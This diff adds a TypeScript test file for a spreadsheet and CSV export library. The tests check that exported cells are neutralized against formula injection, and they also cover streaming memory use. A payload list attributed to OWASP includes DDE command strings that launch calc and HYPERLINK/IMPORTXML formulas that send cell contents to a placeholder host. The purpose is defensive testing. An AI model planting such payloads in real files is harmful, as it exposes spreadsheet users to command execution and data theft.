@@ -1,0 +1,152 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { headerLine, rowLine, streamDelimited, toDelimited } from "@/lib/export/table/delimited";
+import { looksLikeFormula, neutralized } from "@/lib/export/table/formula";
+import { tableOf } from "@/lib/export/table/table-of";
+import { toXlsx } from "@/lib/export/table/xlsx";
+import { readCsv, readXlsx } from "./read-files";
+
+/** OWASP, "CSV Injection", and payloads that its testing guides list; made-up cells, none of them from the dataset. */
+const PAYLOADS = [
+  "=1+1",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://made-up.invalid?leak="&A1,"click")',
+  '=IMPORTXML(CONCAT("http://made-up.invalid?",A1),"//a")',
+  "+1+1",
+  "+cmd|' /C calc'!A0",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "＝1+1",
+  "＋1+1",
+  "－1+1",
+  "＠SUM(1)",
+  " =1+1",
+  "\u200b=1+1",
+  "\ufeff=1+1",
+  "|calc",
+  "%0A=1+1".replace("%0A", "\n"),
+  '";=1+1',
+];
+
+const REPORT = {
+  id: "made-up/report",
+  kind: "primary" as const,
+  label: "Made-up 2020",
+  year: 2020,
+  journal: "Made-up Journal",
+  pmid: null,
+  doi: null,
+  dataCutoff: null,
+  medianFollowUpMonths: null,
+  trial: { id: "made-up", name: "MADE-UP", nct: "NCT00000000" },
+};
+
+const tableWith = (cells: readonly (string | number)[]) =>
+  tableOf({
+    title: "=made-up title",
+    about: {
+      url: "http://localhost",
+      view: ["=1+1: =2"],
+      datasetVersion: "made-up",
+      time: "2026-11-25T00:00:00Z",
+    },
+    columns: [{ id: "cell", label: "=Cell", kind: "text", value: (cell: string | number) => cell }],
+    rows: cells,
+    key: String,
+    report: () => REPORT,
+    verified: () => true,
+  });
+
+const DANGEROUS = /^\s*[=+\-@|\uff1d\uff0b\uff0d\uff20\t\r\n]/u;
+
+describe.each(PAYLOADS)("%j", (payload) => {
+  it("runs in no CSV, TSV or workbook, and keeps all its text", async () => {
+    for (const separator of [",", "\t"] as const) {
+      const [head, row] = readCsv(toDelimited(tableWith([payload]), { separator }), separator);
+      expect(row?.[0]).not.toMatch(DANGEROUS);
+      expect(row?.[0]?.endsWith(payload)).toBe(true);
+      expect(head?.[0]).toBe("'=Cell");
+    }
+    const { sheet } = readXlsx(await toXlsx(tableWith([payload])));
+    for (const index of [0, 1, 2])
+      for (const cell of sheet(index).rows.flat())
+        if (typeof cell?.value === "string") expect(cell.value).not.toMatch(DANGEROUS);
+  });
+});
+
+it("leaves numbers numbers: a negative one is no formula", async () => {
+  expect(rowLine([-1.5, "-1.5", 0, null], { separator: "," })).toBe("-1.5,'-1.5,0,\r\n");
+  expect(readXlsx(await toXlsx(tableWith([-1.5]))).sheet(0).rows[1]?.[0]).toEqual({ type: "n", value: -1.5 });
+});
+
+it("reads back whatever text there is, and none of it is dangerous", () => {
+  fc.assert(
+    fc.property(
+      fc.array(
+        fc.string({ unit: "binary" }).filter((text) => !text.includes("\0")),
+        { minLength: 1, maxLength: 5 },
+      ),
+      (texts) => {
+        for (const separator of [",", "\t"] as const) {
+          const [row] = readCsv(rowLine(texts, { separator }), separator);
+          expect(row).toEqual(texts.map(neutralized));
+          for (const field of row ?? []) expect(looksLikeFormula(field)).toBe(false);
+        }
+      },
+    ),
+  );
+});
+
+it("leaves plain text as it is", () => {
+  for (const text of ["", "0.60", "<0.001", "PD-L1 TPS ≥50%", "(−5)", "a=b", "'quoted'"])
+    expect(neutralized(text)).toBe(text);
+});
+
+it("begins with a byte order mark only on request", () => {
+  const columns = [{ label: "Trial" }];
+  expect(headerLine(columns, { separator: "," })).toBe("Trial\r\n");
+  expect(headerLine(columns, { separator: ",", byteOrderMark: true })).toBe("\ufeffTrial\r\n");
+});
+
+describe("100,000 made-up rows", () => {
+  const WIDTH = 40;
+  const columns = Array.from({ length: WIDTH }, (_, index) => ({
+    id: `c${index}`,
+    label: `Column ${index}`,
+    kind: "text" as const,
+    digits: null,
+  }));
+
+  it("stream in constant memory, and stop when the reader goes", async () => {
+    let made = 0;
+    async function* rows() {
+      for (; made < 100_000; made += 500)
+        yield Array.from({ length: 500 }, (_, at) => ({
+          values: columns.map((_, index) => (index % 2 === 0 ? made + at : `made-up text ${made + at}`)),
+        }));
+    }
+    globalThis.gc?.();
+    const reader = streamDelimited({ columns }, rows(), { separator: "," }).getReader();
+    let bytes = 0;
+    let highest = 0;
+    const start = process.memoryUsage().rss;
+    for (let count = 0; ; count++) {
+      const { value, done } = await reader.read();
+      if (done) break;
+      bytes += value.byteLength;
+      if (count % 50 === 0) highest = Math.max(highest, process.memoryUsage().rss - start);
+    }
+    expect(bytes).toBeGreaterThan(40e6);
+    // The whole text would take as much as the bytes, and the rows several times that.
+    expect(highest).toBeLessThan(150e6);
+    made = 0;
+    const early = streamDelimited({ columns }, rows(), { separator: "," }).getReader();
+    await early.read();
+    await early.cancel();
+    expect(made).toBeLessThan(5_000);
+  });
+});
